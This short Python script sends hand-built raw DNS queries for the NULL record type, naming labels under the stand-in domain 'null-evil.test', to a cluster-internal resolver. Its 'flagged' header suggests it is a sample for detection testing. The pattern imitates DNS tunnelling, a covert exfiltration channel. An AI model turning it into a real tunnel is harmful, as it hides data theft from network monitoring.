# flagged: python3.11
import os, socket
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("10.96.0.10", 53))
one.settimeout(1)
for number in range(8):
    part = b"n%d" % number
    one.send(os.urandom(2) + bytes.fromhex("01000001000000000000") + bytes([len(part)]) + part + b"\x09null-evil\x04test\0\0\x0a\0\1")
    one.recv(512)
